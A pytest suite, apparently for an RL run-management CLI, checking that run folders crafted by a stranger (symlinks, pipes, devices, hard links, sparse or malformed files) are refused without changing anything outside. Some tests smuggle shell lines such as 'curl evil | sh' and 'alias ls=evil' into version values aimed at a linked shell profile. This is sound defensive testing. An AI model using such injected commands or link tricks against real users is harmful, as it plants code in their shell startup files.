"""Runs that a stranger made, under the commands of a user: nothing around them changes, nothing hangs or grows."""

import json
import os
import shutil
import stat
import subprocess
import sys

import pytest

from benchmarks import own_environment
from fcritic.cli.dispatch import run as command
from fcritic.runs.directory import RunDirectory
from fcritic.runs.fingerprint import fingerprint

pytest_plugins = ["strangers_runs"]  # its fixtures

SECONDS = 20
FILES = ["lock", "command.txt", "versions.json", "config.json", "metrics.jsonl", "journal.jsonl"]
FOLDERS = ["checkpoints", "replay", "tensorboard"]


def refused(capsys, *words) -> str:
    """The one line of a command that ends with exit code 2."""
    capsys.readouterr()
    assert command([str(word) for word in words]) == 2
    captured = capsys.readouterr()
    (line,) = captured.err.splitlines()
    assert line.startswith("fcritic: ") and captured.out == ""
    return line


def put(kind: str, path, desk) -> None:
    """Puts a link, a pipe or a device in the place of a file or folder; a link leads to what was there."""
    if kind == "link":
        moved = desk.mine / f"moved-{path.name}"
        os.rename(path, moved)
        path.symlink_to(os.path.relpath(moved, path.parent))
        return
    shutil.rmtree(path) if path.is_dir() else path.unlink()
    if kind == "pipe":
        os.mkfifo(path)
    else:
        try:
            os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))  # /dev/zero
        except PermissionError:
            pytest.skip("only root makes devices")


@pytest.mark.parametrize("kind", ["link", "pipe", "device"])
@pytest.mark.parametrize("name", FILES + FOLDERS)
def test_what_is_not_plain_is_refused_in_every_place_of_a_run(desk, no_hang, capsys, name, kind):
    put(kind, desk.run / name, desk)
    before = desk.outside()
    for words in (["resume", desk.run], ["evaluate", desk.run, "--episodes", "1"], ["plot", desk.run]):
        line = refused(capsys, *words)
        assert f"{name} is a link or not a " in line and "in its place" in line
    assert command(["watch", str(desk.run), "--json"]) == 0
    assert desk.outside() == before


@pytest.mark.parametrize("kind", ["link", "pipe", "device"])
def test_what_is_not_plain_is_refused_below_the_folders_of_a_run(desk, no_hang, capsys, kind):
    """The newest checkpoint, one file of the one before and the replay that all need: none is left to use."""
    older = sorted((desk.run / "checkpoints").iterdir())[0]
    put(kind, desk.newest, desk)
    put(kind, older / "agent.safetensors", desk)
    before = desk.outside()
    assert "no checkpoint in" in refused(capsys, "resume", desk.run)
    assert "no checkpoint in" in refused(capsys, "evaluate", desk.run)
    assert desk.outside() == before


def test_rows_of_the_replay_are_not_read_or_cut_through_a_link(desk, capsys):
    for path in sorted((desk.run / "replay").iterdir()):
        put("link", path, desk)
    before = desk.outside()
    assert "is a link, not a plain file" in refused(capsys, "resume", desk.run)
    assert desk.outside() == before


@pytest.mark.parametrize("name", ["metrics.jsonl", "command.txt", "lock", "journal.jsonl"])
def test_a_second_name_of_a_users_file_is_not_written_to(desk, capsys, name):
    (desk.run / name).unlink()
    os.link(desk.mine / "diary", desk.run / name)
    before = desk.outside()
    assert "second name" in refused(capsys, "resume", desk.run)
    assert desk.outside() == before


def test_recorded_values_keep_no_line_breaks(desk, capsys):
    """Not even where the record is the run's own."""
    versions = json.loads((desk.run / "versions.json").read_text())
    versions |= {"jax": "0.1\nalias ls=evil\r\x1b[2J\u2028\ud800", "x\ny": "1" * 10**6, "z": [1, {"a": "\n"}]}
    versions |= {f"more{number}": "x" for number in range(1000)}
    (desk.run / "versions.json").write_text(json.dumps(versions))
    before = (desk.run / "command.txt").read_bytes()
    assert command(["resume", str(desk.run)]) == 0
    added = (desk.run / "command.txt").read_bytes().removeprefix(before)
    assert added.count(b"\n") == 1 and len(added) < 5000
    assert added.decode()[:-1].isprintable() and "0.1 alias ls=evil" in added.decode()
    assert all(len(line) < 5000 for line in capsys.readouterr().err.splitlines())


def test_a_picture_is_not_drawn_through_a_link(desk, capsys):
    (desk.run / "curve.png").symlink_to(desk.mine / "keep.html")
    before = desk.outside()
    assert "is a link, not a plain file" in refused(capsys, "plot", desk.run)
    for name, words in {"replay.html": ["replay"], "video.mp4": ["video"]}.items():
        (desk.run / name).symlink_to(desk.mine / "keep.html")
        assert "is a link or not a plain file" in refused(capsys, *words, desk.run)
    assert desk.outside() == before


def test_a_path_that_the_user_typed_may_be_a_link(desk, tmp_path, capsys):
    """The run itself, and where a command shall write."""
    (tmp_path / "latest").symlink_to(desk.run)
    (desk.mine / "picture.png").write_bytes(b"")
    (tmp_path / "out.png").symlink_to(desk.mine / "picture.png")
    assert command(["plot", str(tmp_path / "latest"), "--out", str(tmp_path / "out.png")]) == 0
    assert (tmp_path / "out.png").is_symlink()
    assert (desk.mine / "picture.png").read_bytes().startswith(b"\x89PNG")


# As a user meets them


@pytest.mark.slow
def test_resume_writes_no_lines_of_a_stranger_into_a_profile(desk):
    os.unlink(desk.run / "command.txt")
    (desk.run / "command.txt").symlink_to(desk.mine / "profile")
    versions = json.loads((desk.run / "versions.json").read_text())
    (desk.run / "versions.json").write_text(json.dumps(versions | {"jax": "1\ncurl evil | sh\n"}))
    before, done = desk.outside(), None
    done = desk.fcritic("resume", desk.run)
    assert desk.outside() == before
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "command.txt is a link" in done.stderr


@pytest.mark.slow
def test_resume_does_not_empty_a_diary(desk):
    os.unlink(desk.run / "metrics.jsonl")
    (desk.run / "metrics.jsonl").symlink_to(desk.mine / "diary")
    for folder in (desk.run / "checkpoints").iterdir():
        desk.change_manifest(lambda manifest: manifest["facts"].update(log_position=0), folder)
    before = desk.outside()
    done = desk.fcritic("resume", desk.run)
    assert desk.outside() == before
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "metrics.jsonl is a link" in done.stderr


@pytest.mark.slow
def test_resume_does_not_remove_another_runs_replay_or_the_folders_of_a_home(desk):
    shutil.rmtree(desk.run / "replay")
    (desk.run / "replay").symlink_to(desk.mine / "replay")
    empty = {"oldest": 0, "written": 0, "pieces": []}
    for folder in (desk.run / "checkpoints").iterdir():
        desk.change_manifest(lambda manifest: manifest["facts"].update(replay=empty), folder)
    before = desk.outside()
    done = desk.fcritic("resume", desk.run)
    assert desk.outside() == before
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "replay is a link" in done.stderr
    (desk.run / "replay").unlink()
    shutil.rmtree(desk.run / "checkpoints")
    (desk.run / "checkpoints").symlink_to(desk.mine / "home")
    done = desk.fcritic("resume", desk.run)
    assert desk.outside() == before
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "checkpoints is a link" in done.stderr


@pytest.mark.slow
def test_a_stopped_run_loses_nothing_if_its_newest_checkpoint_is_damaged_later(desk, capsys):
    """Also after a resume that had nothing to do: the older checkpoint keeps the rows that only it needs."""
    expected = fingerprint(desk.run)
    done = desk.fcritic("resume", desk.run)
    assert done.returncode == 0, done.stderr
    newest = desk.newest
    older = RunDirectory(desk.run).checkpoint_path(180)
    assert newest.name == "step-000000000240" and older.is_folder()
    (newest / "agent.safetensors").write_bytes(b"damage")
    done = desk.fcritic("resume", desk.run)
    assert done.returncode == 0, done.stderr
    assert "continuing from step-000000000180" in done.stderr
    assert fingerprint(desk.run) == expected
    assert (desk.run / "checkpoints" / f"damaged-{newest.name}").is_dir()


@pytest.mark.parametrize("times", [1, 2])
def test_every_kept_checkpoint_stays_usable_after_resumes(desk, capsys, times):
    """And a longer run still clears away what none of them needs."""
    expected = fingerprint(desk.run)
    for _ in range(times):
        assert command(["resume", str(desk.run), "--quiet"]) == 0
    (desk.newest / "manifest.json").unlink()
    assert command(["resume", str(desk.run), "--quiet"]) == 0
    assert fingerprint(desk.run) == expected
    assert command(["resume", str(desk.run), "--quiet", "--steps", "480"]) == 0
    kept = {path.name for path in (desk.run / "replay").iterdir()}
    needed = set()
    for folder in (desk.run / "checkpoints").glob("step-*"):
        pieces = json.loads((folder / "manifest.json").read_text())["facts"]["replay"]["pieces"]
        needed |= {f"rows-{first:012d}.f32" for first, _, _ in pieces}
    assert kept == needed


# Sizes and counts


@pytest.mark.slow
def test_a_sparse_file_of_rows_costs_a_line_and_no_memory(desk):
    """6 GB that take no room on a disk, in every command that reads rows; each in a process whose peak is known."""
    os.truncate(desk.run / "metrics.jsonl", 6 * 10**9)
    code = (
        "import sys, time\n"
        "from benchmarks.attacks.memory import peak_mb\n"
        "from fcritic.cli.dispatch import run\n"
        "for words in (['plot'], ['evaluate', '--episodes', '1'], ['resume'], ['watch', '--json']):\n"
        "    start, code = time.monotonic(), run([words[0], sys.argv[1], *words[1:]])\n"
        "    print(words[0], code, time.monotonic() - start, file=sys.stderr)\n"
        "print('peak', peak_mb(), file=sys.stderr)\n"
    )
    python = [sys.executable, "-c", code, str(desk.run)]
    done = subprocess.run(python, env=own_environment(), capture_output=True, text=True)
    lines = done.stderr.splitlines()
    told = {line.split()[0]: line.split()[1:] for line in lines if not line.startswith("fcritic: ")}
    assert [told[name][0] for name in ("plot", "evaluate", "resume", "watch")] == ["2", "2", "2", "0"], done.stderr
    assert "has 6,000,000,000 bytes, more than the 1,073,741,824 expected" in lines[0]
    assert "are not read" in done.stdout
    assert all(float(words[1]) < SECONDS for name, words in told.items() if name != "peak"), told
    assert float(told["peak"][0]) < 1500  # MB


def test_a_row_without_end_is_one_line(desk, capsys):
    with (desk.run / "metrics.jsonl").open("ab") as file:
        file.write(b'{"seed": 3, "x": "')
        file.truncate(file.tell() + 5 * 2**20)
        file.seek(0, os.SEEK_END)
        file.write(b'"}\n')
    assert "a line has more than 1,048,576 bytes" in refused(capsys, "plot", desk.run)


ROWS = {
    "a seed beyond all numbers": '{"seed": 1e999, "env_steps": 1, "kind": "episode", "return": 1}',
    "a return of 400 digits": '{"seed": 3, "env_steps": 1, "kind": "episode", "return": %s}' % ("9" * 400),
    "a frame of 400 digits": '{"seed": 3, "env_steps": %s, "kind": "episode", "return": 1}' % ("9" * 400),
    "a return of 5,000 digits": '{"seed": 3, "env_steps": 1, "kind": "episode", "return": %s}' % ("9" * 5000),
    "a return of text": '{"seed": 3, "env_steps": 1, "kind": "episode", "return": "12"}',
    "a return that is a list": '{"seed": 3, "env_steps": 1, "kind": "episode", "return": [1]}',
    "a negative seed": '{"seed": -3, "env_steps": 1, "kind": "episode", "return": 1}',
    "a row that is nested": '{"seed": %s}' % ("[" * 50_000),
    "a row of a list": "[]",
    "no row": "\x00",
}


@pytest.mark.parametrize("name", ROWS)
def test_rows_that_nobody_wrote_are_one_line(desk, capsys, name):
    with (desk.run / "metrics.jsonl").open("a") as file:
        file.write(ROWS[name] + "\n")
    line = refused(capsys, "plot", desk.run)
    assert "metrics.jsonl line" in line and "repair or remove it" in line


def test_numbers_that_leave_no_room_for_an_axis_are_one_line(desk, capsys):
    with (desk.run / "metrics.jsonl").open("a") as file:
        for value in ("1e308", "-1e308"):
            row = f'"kind": "evaluation", "mean_actor": {value}, "best_actor": {value}'
            file.write(f'{{"seed": 3, "env_steps": 900, {row}}}\n')
    assert "cannot be drawn" in refused(capsys, "plot", desk.run)


VERSIONS = {
    "not JSON": "{",
    "nested": "[" * 100_000,
    "a list": "[]",
    "too large": '{"a": "' + "x" * 5 * 2**20 + '"}',
}


@pytest.mark.parametrize("name", VERSIONS)
def test_a_damaged_record_of_versions_is_one_line(desk, capsys, name):
    (desk.run / "versions.json").write_text(VERSIONS[name])
    assert "versions.json" in refused(capsys, "resume", desk.run)


def test_a_sole_damaged_checkpoint_is_told_once(desk, capsys):
    for folder in (desk.run / "checkpoints").iterdir():
        (folder / "agent.safetensors").write_bytes(b"damage")
    shutil.rmtree(sorted((desk.run / "checkpoints").iterdir())[0])
    for words in (["evaluate"], ["resume"], ["export", "--out", str(desk.mine / "given")]):
        line = refused(capsys, words[0], desk.run, *words[1:])
        assert "no checkpoint in" in line and "agent.safetensors has 6 bytes" in line
        assert "yet" not in line


@pytest.mark.slow
def test_thousands_of_bad_checkpoints_are_one_line(desk, capsys):
    def bad(frames):
        for frame in frames:
            folder = RunDirectory(desk.run).checkpoint_path(frame).path
            folder.mkdir(exist_ok=True)
            (folder / "manifest.json").write_text("{")

    bad(range(10**9, 10**9 + 3000))
    with pytest.warns(UserWarning, match="2,999 older ones cannot be used either") as told:
        assert command(["evaluate", str(desk.run), "--episodes", "1"]) == 0
    assert len([each for each in told if "step-" in str(each.message)]) == 1
    assert "already at frame" in refused(capsys, "resume", desk.run)
    for frame in range(10**9, 10**9 + 3000):
        shutil.rmtree(RunDirectory(desk.run).checkpoint_path(frame).path)
    bad(range(181, 241))
    assert command(["resume", str(desk.run), "--quiet"]) == 0
    (line,) = [line for line in capsys.readouterr().err.splitlines() if "cannot be used" in line]
    assert "59 older ones" in line and "continuing from step-000000000180" in line


def test_a_signed_checkpoint_of_holes_is_not_read(desk, capsys):
    """A terabyte that its manifest vouches for: the size is known from the configuration."""
    older = sorted((desk.run / "checkpoints").iterdir())[0]
    shutil.rmtree(older)
    for group in ("agent", "environments"):
        path = desk.newest / f"{group}.safetensors"
        content = path.read_bytes()
        os.truncate(path, 2**40)
        desk.sign(group, 2**40)
        for name in ("evaluate", "resume"):
            line = refused(capsys, name, desk.run)
            assert "nearly all of them holes" in line or "more than" in line
        path.write_bytes(content)
        desk.sign(group, len(content))
